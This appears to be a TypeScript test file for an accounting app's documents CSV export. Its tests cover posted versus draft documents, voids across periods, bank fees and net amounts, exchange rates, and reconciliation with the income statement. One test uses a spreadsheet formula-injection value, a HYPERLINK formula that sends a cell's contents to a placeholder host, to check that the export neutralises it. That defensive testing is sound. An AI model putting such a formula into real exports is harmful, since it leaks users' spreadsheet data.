import { Writable } from 'node:stream';
import { DOCUMENTS_CSV_HEADER, streamExport } from '@cifra/exports';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDraft, discardDraft, postDocument, voidDocument } from '../src/documents/index.ts';
import { importOpeningBalances } from '../src/opening/index.ts';
import type { Books } from '../src/services/books.ts';
import { incomeStatement } from '../src/services/financial-statements.service.ts';
import { createParty } from '../src/services/parties.service.ts';
import { actor, openTestBooks, type TestBooks } from './test-books.ts';

/**
 * DOCUMENTS_CSV is the books' documents: posted ones only (drafts, pending or discarded, are not
 * in the books), voided ones marked with their void, receipts and payments with fee and net.
 */
let t: TestBooks;
let books: Books;
let customer: string;
let csv: Record<string, string>[];

const line = (unitPrice: string, accountCode = '4101') => ({
  accountCode,
  quantity: '1',
  unitPrice,
  taxCode: 'ITBMS7',
});

async function exportDocuments(from: string, to: string): Promise<string> {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk, _enc, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  await streamExport({
    pool: t.appPool,
    claims: {
      tenantId: '00000000-0000-4000-8000-000000000000',
      tenantSlug: 'export-test',
      format: 'DOCUMENTS_CSV',
      from,
      to,
      userId: actor.userId as string,
      email: actor.email as string,
      exportId: '00000000-0000-4000-8000-000000000002',
      expiresAt: new Date(Date.now() + 60_000),
    },
    minorUnitsOf: () => 2,
    out,
  });
  return Buffer.concat(chunks).toString('utf8');
}

/** The file's rows by column name (no field here holds a comma or a quote). */
function parse(text: string): Record<string, string>[] {
  const [head, ...rows] = text.split('\r\n').filter((l) => l !== '');
  const names = (head as string).split(',');
  return rows.map((r) => Object.fromEntries(r.split(',').map((v, i) => [names[i], v])));
}

const minor = (s: string) => {
  const [units, cents = ''] = s.replace('-', '').split('.');
  const m = BigInt(units as string) * 100n + BigInt(cents.padEnd(2, '0'));
  return s.startsWith('-') ? -m : m;
};

beforeAll(async () => {
  t = await openTestBooks();
  books = await t.books();
  customer = (await createParty(books, { kind: 'CUSTOMER', code: 'C1', name: 'Hotel Boquete' })).id;
  const invoice = async (unitPrice: string, date: string) =>
    postDocument(
      books,
      (
        await createDraft(books, 'SALES_INVOICE', {
          partyId: customer,
          documentDate: date,
          lines: [line(unitPrice)],
        })
      ).id,
      'SALES',
    );
  // 2,753.12 invoiced, of which 453.12 voided; 232.00 credited: the books hold 2,068.00 of sales.
  const a = await invoice('1500.00', '2026-03-02');
  await invoice('800.00', '2026-03-05');
  const voided = await invoice('453.12', '2026-03-06');
  await voidDocument(books, voided.id, 'SALES', 'Issued to the wrong customer and re-invoiced', '2026-03-09');
  await postDocument(
    books,
    (
      await createDraft(books, 'CREDIT_NOTE', {
        partyId: customer,
        documentDate: '2026-03-12',
        appliesToId: a.id,
        lines: [line('232.00', '4201')],
      })
    ).id,
    'SALES',
  );
  // A discarded draft and a pending one: neither is in the books.
  await discardDraft(
    books,
    (
      await createDraft(books, 'SALES_INVOICE', {
        partyId: customer,
        documentDate: '2026-03-13',
        lines: [line('999.00')],
      })
    ).id,
  );
  await createDraft(books, 'SALES_INVOICE', {
    partyId: customer,
    documentDate: '2026-03-14',
    lines: [line('777.00')],
  });
  // A receipt of 500.00 with a 3.75 bank fee: the bank got 496.25.
  await postDocument(
    books,
    (
      await createDraft(books, 'CUSTOMER_RECEIPT', {
        partyId: customer,
        documentDate: '2026-03-20',
        amount: '500.00',
        bankFee: '3.75',
        allocations: [{ invoiceId: a.id, amount: '500.00' }],
      })
    ).id,
    'PAYMENT',
  );
  csv = parse(await exportDocuments('2026-03-01', '2026-03-31'));
});
afterAll(() => t.close());

describe('DOCUMENTS_CSV', () => {
  it('has the void, fee and net columns', () => {
    expect(DOCUMENTS_CSV_HEADER.trim().split(',').slice(-7)).toEqual([
      'bank_fee',
      'net_amount',
      'entry_number',
      'voided',
      'void_date',
      'void_reason',
      'void_entry_number',
    ]);
  });

  it('lists posted documents only: no discarded or pending draft, every row numbered', () => {
    expect(csv.map((r) => r.kind)).toEqual([
      'SALES_INVOICE',
      'SALES_INVOICE',
      'SALES_INVOICE',
      'CREDIT_NOTE',
      'CUSTOMER_RECEIPT',
    ]);
    for (const r of csv) {
      expect(r.status).toBe('POSTED');
      expect(r.number).toMatch(/^[A-Z]+-2026-\d{6}$/);
      expect(r.entry_number).toMatch(/^JE-2026-\d{6}$/);
    }
  });

  it('marks the voided invoice with its void date, reason and reversing entry', () => {
    const voided = csv.filter((r) => r.voided === 'true');
    expect(voided).toHaveLength(1);
    expect(voided[0]).toMatchObject({
      subtotal: '453.12',
      void_date: '2026-03-09',
      void_reason: 'Issued to the wrong customer and re-invoiced',
    });
    expect(voided[0]?.void_entry_number).toMatch(/^JE-2026-\d{6}$/);
    expect(csv.filter((r) => r.voided === 'false')).toHaveLength(4);
  });

  it('carries the receipt of 500.00 with its 3.75 bank fee and the 496.25 the bank got', () => {
    const receipt = csv.find((r) => r.kind === 'CUSTOMER_RECEIPT');
    expect(receipt).toMatchObject({ total: '500.00', bank_fee: '3.75', net_amount: '496.25' });
    expect(csv.find((r) => r.kind === 'SALES_INVOICE')).toMatchObject({ bank_fee: '', net_amount: '' });
  });

  it('sales from the file (invoices 2,753.12 − voided 453.12 − credit notes 232.00 = 2,068.00) equal the income statement', async () => {
    let sales = 0n;
    for (const r of csv) {
      if (r.voided === 'true') continue;
      if (r.kind === 'SALES_INVOICE') sales += minor(r.subtotal as string);
      if (r.kind === 'CREDIT_NOTE') sales -= minor(r.subtotal as string);
    }
    expect(sales).toBe(206_800n);
    const is = await incomeStatement(t.db, '2026-03-01', '2026-03-31');
    expect(is.income.totalMinor).toBe(sales);
  });
});

describe('DOCUMENTS_CSV and free text', () => {
  it("writes an imported number that is a formula as text: a leading ', quoted", async () => {
    // The previous system's numbers are free text: this one would run in a spreadsheet.
    const number = '=HYPERLINK("http://x.example/?"&A1,"open")';
    await importOpeningBalances(books, {
      openingDate: '2026-01-01',
      clearingAccountCode: '3301',
      trialBalance: [
        { accountCode: '1201', debit: '50.00' },
        { accountCode: '3101', credit: '50.00' },
      ],
      openItems: [
        {
          kind: 'SALES_INVOICE',
          partyCode: 'C1',
          number,
          date: '2025-12-10',
          dueDate: '2026-01-09',
          originalAmount: '50.00',
          openAmount: '50.00',
        },
      ],
    });
    const text = await exportDocuments('2026-01-01', '2026-01-31');
    const quoted = `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`;
    // The number, and the reference that keeps it.
    expect(text.split('\r\n')[1]?.startsWith(`${quoted},SALES_INVOICE,POSTED,`)).toBe(true);
    expect(text.split(quoted)).toHaveLength(3);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe('DOCUMENTS_CSV and a void in a later period', () => {
  /**
   * Sales of [from, to] as posting.md states them from the files: the invoices' subtotals less the
   * credit notes' over the rows posted in the range, less those of every row — of this range's file
   * or an earlier one — whose void is dated in it.
   */
  const salesOf = (rows: Record<string, string>[], from: string, to: string) => {
    let sales = 0n;
    const within = (d: string | undefined) => d !== undefined && d >= from && d <= to;
    for (const r of rows) {
      const sign = r.kind === 'SALES_INVOICE' ? 1n : r.kind === 'CREDIT_NOTE' ? -1n : 0n;
      const amount = sign * minor(r.subtotal as string);
      if (within(r.posting_date)) sales += amount;
      if (r.voided === 'true' && within(r.void_date)) sales -= amount;
    }
    return sales;
  };

  it("an October invoice voided in November is October's file's row, and November's revenue less it", async () => {
    const invoice = await postDocument(
      books,
      (
        await createDraft(books, 'SALES_INVOICE', {
          partyId: customer,
          documentDate: '2026-10-15',
          lines: [line('60.00')],
        })
      ).id,
      'SALES',
    );
    await voidDocument(books, invoice.id, 'SALES', 'Cancelled by the customer before delivery', '2026-11-05');
    const october = parse(await exportDocuments('2026-10-01', '2026-10-31'));
    const november = parse(await exportDocuments('2026-11-01', '2026-11-30'));
    // November's file has no row for it: the void is on October's row.
    expect(november).toEqual([]);
    expect(october).toHaveLength(1);
    expect(october[0]).toMatchObject({ subtotal: '60.00', voided: 'true', void_date: '2026-11-05' });
    const revenue = async (from: string, to: string) =>
      (await incomeStatement(t.db, from, to)).income.totalMinor;
    expect(await revenue('2026-11-01', '2026-11-30')).toBe(-6000n);
    // The rows of November's file alone, voids in it left out, would say 0.00.
    expect(salesOf(november, '2026-11-01', '2026-11-30')).toBe(0n);
    const both = [...october, ...november];
    expect(salesOf(both, '2026-11-01', '2026-11-30')).toBe(-6000n);
    expect(salesOf(both, '2026-10-01', '2026-10-31')).toBe(await revenue('2026-10-01', '2026-10-31'));
    expect(salesOf(both, '2026-10-01', '2026-11-30')).toBe(await revenue('2026-10-01', '2026-11-30'));
  });
});

describe('DOCUMENTS_CSV rates', () => {
  it('writes each rate in its shortest form, as GL_CSV does: 1, and a typed 150.5', async () => {
    const eur = (await createParty(books, { kind: 'CUSTOMER', code: 'E1', name: 'Kaffee', currency: 'EUR' }))
      .id;
    for (const [partyId, exchangeRate] of [
      [customer, undefined],
      [eur, '150.500'],
    ] as const)
      await postDocument(
        books,
        (
          await createDraft(books, 'SALES_INVOICE', {
            partyId,
            documentDate: '2026-05-04',
            exchangeRate,
            lines: [line('10.00')],
          })
        ).id,
        'SALES',
      );
    const rows = parse(await exportDocuments('2026-05-01', '2026-05-31'));
    expect(rows.map((r) => [r.currency, r.exchange_rate])).toEqual([
      ['PAB', '1'],
      ['EUR', '150.5'],
    ]);
  });
});
